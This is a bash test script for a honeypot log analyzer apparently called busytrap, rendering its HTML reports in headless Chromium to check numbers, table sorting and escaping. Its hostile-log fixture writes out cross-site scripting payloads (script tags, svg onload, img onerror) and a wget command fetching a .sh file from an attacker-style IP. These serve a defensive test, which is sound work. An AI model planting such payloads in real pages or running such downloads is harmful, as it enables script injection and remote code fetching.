#!/usr/bin/env bash
# `busytrap analyze -f html`: the page of the bundled real Cowrie sample, of a generated log with
# --intel, and of a log full of markup breakout attempts is rendered in headless Chromium, inside a
# network namespace without any interface up (the page must need no network). Checked: a
# screenshot is taken, the browser logs no console message (no script error, no CSP violation),
# the page's own script ran (it is allowed by its hash), and the key numbers in the rendered DOM
# are those of `analyze -f json` on the same input (read with jq). Injected markup stays text.
# A copy of a page with a driver script (and without the CSP, which would refuse it) clicks
# column headers to check that the tables sort.
# Exit 77 (a CTest skip) when chromium is not installed. BUSYTRAP_HTML_KEEP=DIR keeps the pages
# and screenshots there.
set -euo pipefail
: "${BUSYTRAP:?}" "${BUSYTRAP_SOURCE_DIR:?}"
if ! command -v chromium >/dev/null 2>&1; then
  echo "SKIP: chromium is not installed (Debian package chromium; scripts/install-deps.sh installs it)"
  exit 77
fi
if [ -z "${BUSYTRAP_HTML_NETNS:-}" ] && unshare --net true 2>/dev/null; then
  BUSYTRAP_HTML_NETNS=1 exec unshare --net bash "$0" "$@"
fi
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
fail() { echo "FAIL: $*" >&2; exit 1; }
sample="$BUSYTRAP_SOURCE_DIR/data/sample/honeylist-cowrie-2019-07-08.json"

# Renders $work/NAME.html: NAME.png (screenshot, unless a second argument says "noshot"), NAME.dom
# (the DOM after scripts ran), NAME.log (the browser's log, console messages included).
render() {
  local shot=(--window-size=1280,1800 --screenshot="$work/$1.png")
  [ "${2:-}" = noshot ] && shot=(--window-size=800,600)
  timeout 90 chromium --headless --no-sandbox --disable-gpu --hide-scrollbars --no-first-run \
    --user-data-dir="$work/profile-$1" --enable-logging=stderr --v=0 "${shot[@]}" \
    --dump-dom "file://$work/$1.html" > "$work/$1.dom" 2> "$work/$1.log"
}

# What the rendered page holds, as JSON: elements by id (data-value), tables by data-table (cell
# texts and data-v), counts of elements that injected markup would add.
dom_facts() {
  python3 - "$1" <<'PY'
import json, sys
from html.parser import HTMLParser
class Facts(HTMLParser):
    def __init__(self):
        super().__init__()
        self.ids, self.tables, self.tags, self.handlers = {}, {}, {}, 0
        self.html_class, self.table, self.row, self.cell = "", None, None, None
    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        self.tags[tag] = self.tags.get(tag, 0) + 1
        self.handlers += sum(1 for k, _ in attrs if k.startswith("on"))
        if tag == "html": self.html_class = a.get("class") or ""
        if "id" in a and "data-value" in a: self.ids[a["id"]] = a["data-value"]
        if tag == "table" and "data-table" in a:
            self.table = self.tables.setdefault(a["data-table"], [])
        elif tag == "tr" and self.table is not None:
            self.row = []
        elif tag == "td" and self.row is not None:
            self.cell = {"text": "", "v": a.get("data-v")}
    def handle_endtag(self, tag):
        if tag == "td" and self.cell is not None: self.row.append(self.cell); self.cell = None
        elif tag == "tr" and self.row is not None:
            if self.row: self.table.append(self.row)
            self.row = None
        elif tag == "table": self.table = None
    def handle_data(self, data):
        if self.cell is not None: self.cell["text"] += data
p = Facts()
p.feed(open(sys.argv[1], encoding="utf-8").read())
print(json.dumps({"ids": p.ids, "tables": p.tables, "tags": p.tags, "handlers": p.handlers,
                  "html_class": p.html_class}))
PY
}

# Console messages of the page (script errors, CSP violations, console.*); Chromium's own pages
# (chrome://...) sometimes log too, they are not the page's.
page_console() { grep -a "CONSOLE" "$work/$1.log" | grep -a "source: file://"; }

check_page() {
  local name=$1
  [ -s "$work/$name.png" ] || fail "$name: no screenshot"
  [ "$(head -c 8 "$work/$name.png" | od -An -tx1 | tr -d ' \n')" = 89504e470d0a1a0a ] || fail "$name: not a PNG"
  [ "$(stat -c %s "$work/$name.png")" -gt 40000 ] || fail "$name: the screenshot is nearly empty"
  if page_console "$name"; then fail "$name: the page logged console messages (above)"; fi
  dom_facts "$work/$name.dom" > "$work/$name.facts"
  jq -e '.html_class | test("\\bjs\\b")' "$work/$name.facts" >/dev/null || fail "$name: the page's script did not run"
  jq -e '.tags.script == 1 and .handlers == 0 and ([.tags.img, .tags.iframe, .tags.b, .tags.link] | add) == null' \
    "$work/$name.facts" >/dev/null \
    || fail "$name: unexpected elements: $(jq -c .tags "$work/$name.facts")"
}

# Key numbers: the DOM shows what the JSON report says, for the same input and options.
check_numbers() {
  local name=$1 json=$2
  jq -e --slurpfile r "$json" '
      .ids["total-records"] == ($r[0].totals.records | tostring)
      and .ids["total-sessions"] == ($r[0].totals.sessions | tostring)
      and .tables.command_lines[0][2].v == ($r[0].tables.command_lines.rows[0].count | tostring)
      and .tables.command_lines[0][1].text == $r[0].tables.command_lines.rows[0].key
      and .tables.program_names[0][2].v == ($r[0].tables.program_names.rows[0].count | tostring)
      and (.tables.command_lines | length) == ($r[0].tables.command_lines.rows | length)' \
    "$work/$name.facts" >/dev/null || fail "$name: DOM numbers differ from the JSON report"
}

start=$(date +%s.%N)
# 1. The bundled real sample.
"$BUSYTRAP" analyze -f html -o "$work/sample.html" "$sample"
"$BUSYTRAP" analyze -f json "$sample" > "$work/sample.json"
# 2. A generated log with every intel analysis.
"$BUSYTRAP" gen --records 3000 --seed 11 -o "$work/gen.log" 2>/dev/null
timelines=(--timeline sessions --timeline family:mirai-scanner --bucket hour)
"$BUSYTRAP" analyze --intel "${timelines[@]}" -f html -o "$work/gen.html" "$work/gen.log"
"$BUSYTRAP" analyze --intel "${timelines[@]}" -f json "$work/gen.log" > "$work/gen.json"
# 3. Breakout attempts in command lines, usernames and program names, binary bytes, a huge line.
{
  cmd() { printf '{"eventid":"cowrie.command.input","session":"%s","timestamp":"2024-05-01T00:00:0%sZ","input":%s}\n' "$@"; }
  printf '{"eventid":"cowrie.login.failed","session":"h1","timestamp":"2024-05-01T00:00:00Z","src_ip":"192.0.2.9","username":"<script>console.error(1)</script>","password":"\\"><svg onload=console.error(2)>"}\n'
  cmd h1 1 '"<script>console.error(\"INJECTED\")</script>"'
  cmd h1 2 '"echo \" & </svg></text><img src=x onerror=console.error(3)> \u007fELF\udcff\udcfe"'
  cmd h1 3 "\"wget http://198.51.100.7/$(head -c 3000 /dev/zero | tr '\0' 'A')<b>.sh\""
  cmd h2 4 '"</svg><script>console.error(4)</script>; sh"'
} > "$work/hostile.log"
"$BUSYTRAP" analyze --intel -f html -o "$work/hostile.html" "$work/hostile.log"

# The sort driver: clicks "count" twice, then the key column, and writes what the first row holds.
python3 - "$work/gen.html" "$work/sorted.html" <<'PY'
import re, sys
page = open(sys.argv[1], encoding="utf-8").read()
page = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
driver = """<script>
var t = document.querySelector("table[data-table=command_lines]"), h = t.tHead.rows[0].cells;
function first(c) { return t.tBodies[0].rows[0].cells[c].getAttribute("data-v"); }
h[2].click(); var up = first(2); h[2].click(); var down = first(2); h[1].click();
document.body.setAttribute("data-sorted", up + " " + down + " " + h[1].getAttribute("aria-sort"));
</script></body>"""
open(sys.argv[2], "w", encoding="utf-8").write(page.replace("</body>", driver))
PY

render sample & render gen & render hostile & render sorted noshot & wait
end=$(date +%s.%N)

check_page sample
check_numbers sample "$work/sample.json"
check_page gen
check_numbers gen "$work/gen.json"
jq -e --slurpfile r "$work/gen.json" '
    .ids["figure-login_attempts"] == ($r[0].intel.figures.login_attempts | tostring)
    and .tables.families[0][1].text == $r[0].intel.tables.families.rows[0].key
    and .tables.families[0][2].v == ($r[0].intel.tables.families.rows[0].count | tostring)
    and .tables.sequence_transitions[0][2].v == ($r[0].intel.tables.sequence_transitions.rows[0].count | tostring)
    and (.tables.indicators_url | length) > 0
    and (.tables.timeline_1 | length) == ($r[0].intel.tables.timeline_1.rows | length)
    and .tables.timeline_2[0][2].v == ($r[0].intel.tables.timeline_2.rows[0].count | tostring)
    and .tags.svg >= 6' "$work/gen.facts" >/dev/null || fail "gen: intel numbers or charts missing in the DOM"
grep -q 'class="node' "$work/gen.dom" || fail "gen: no flow diagram"

check_page hostile
grep -q '&lt;script&gt;console.error("INJECTED")&lt;/script&gt;' "$work/hostile.dom" || fail "hostile: command line not shown as text"
grep -q '&lt;/svg&gt;&lt;/text&gt;&lt;img src=x onerror=console.error(3)&gt; \\x7fELF\\xff\\xfe' "$work/hostile.dom" \
  || fail "hostile: binary bytes or markup not shown escaped"
grep -q '&lt;script&gt;console.error(1)&lt;/script&gt;' "$work/hostile.dom" || fail "hostile: username not shown as text"

min=$(jq '[.tables.command_lines.rows[].count] | min' "$work/gen.json")
max=$(jq '.tables.command_lines.rows[0].count' "$work/gen.json")
grep -q "data-sorted=\"$min $max ascending\"" "$work/sorted.dom" \
  || fail "sorting: expected '$min $max ascending', got: $(grep -o 'data-sorted="[^"]*"' "$work/sorted.dom")"
if page_console sorted; then fail "sorted: the page logged console messages (above)"; fi

if [ -n "${BUSYTRAP_HTML_KEEP:-}" ]; then
  mkdir -p "$BUSYTRAP_HTML_KEEP" && cp "$work"/*.html "$work"/*.png "$BUSYTRAP_HTML_KEEP"/
fi
echo "PASS (4 pages analyzed and rendered in $(awk -v a="$start" -v b="$end" 'BEGIN { printf "%.1f", b - a }') s;" \
  "sample page $(stat -c %s "$work/sample.html") bytes)"
